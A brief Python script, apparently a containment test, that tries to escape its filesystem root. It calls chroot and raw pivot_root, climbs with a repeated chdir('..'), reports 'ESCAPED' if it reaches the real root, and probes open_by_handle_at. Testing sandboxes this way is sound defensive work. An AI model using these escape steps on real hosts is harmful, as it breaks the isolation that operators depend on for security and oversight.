# leaves its root by chroot and pivot_root
import os
from attempt import attempt, call
attempt("chroot", lambda: os.chroot("/tmp"))
attempt("pivot_root", lambda: call("syscall", 155, b"/tmp", b"/tmp"))
for i in range(100):
    os.chdir("..")
print(sorted(os.listdir(".")) == sorted(os.listdir("/")) or "ESCAPED: ..")
attempt("a file handle", lambda: call("open_by_handle_at", 3, b"\0" * 64, 0))
